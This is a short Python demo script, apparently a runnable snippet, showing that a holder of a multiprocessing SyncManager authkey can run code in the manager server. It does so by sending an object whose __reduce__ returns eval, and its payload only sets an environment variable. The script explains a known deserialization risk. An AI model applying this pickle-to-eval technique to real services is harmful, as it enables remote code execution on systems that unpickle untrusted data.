# /// script
# [tool.snippet]
# child-exits = [-15]
# ///
"""Whoever has the key runs code in the server: no method needed."""

import os
from multiprocessing.managers import SyncManager


class Harmless:
    """Unpickled by whoever receives it, as a call of eval()."""

    def __reduce__(self):
        code = "__import__('os').environ.setdefault('SEEN', 'yes')"
        return eval, (code,)


def attack(manager):
    print("here:", os.environ.get("SEEN"))
    shared = manager.list()
    shared.append(Harmless())  # pickled here, unpickled there
    print("the server evaluated it:", shared[0])
    print("here:", os.environ.get("SEEN"))


if __name__ == "__main__":
    with SyncManager(authkey=os.urandom(32)) as manager:
        attack(manager)
